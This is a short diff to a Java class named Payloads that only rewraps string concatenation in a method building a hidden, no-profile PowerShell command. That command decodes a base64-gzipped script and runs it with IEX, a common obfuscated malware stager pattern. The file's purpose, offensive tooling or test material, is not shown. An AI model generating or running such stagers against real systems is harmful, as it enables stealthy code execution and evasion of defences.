@@ -19,8 +19,9 @@ final class Payloads {
 
     /** A hidden PowerShell whose script is base64 of gzip of UTF-8, unpacked and run by an outer script. */
     static String compressed(String script) {
-        return "powershell.exe -nop -w hidden -c \"IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream("
-                + "(New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gzipped(script) + "'))),"
+        return "powershell.exe -nop -w hidden -c \"IEX (New-Object IO.StreamReader((New-Object"
+                + " IO.Compression.GzipStream((New-Object"
+                + " IO.MemoryStream(,[Convert]::FromBase64String('" + gzipped(script) + "'))),"
                 + "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::UTF8)).ReadToEnd()\"";
     }
 
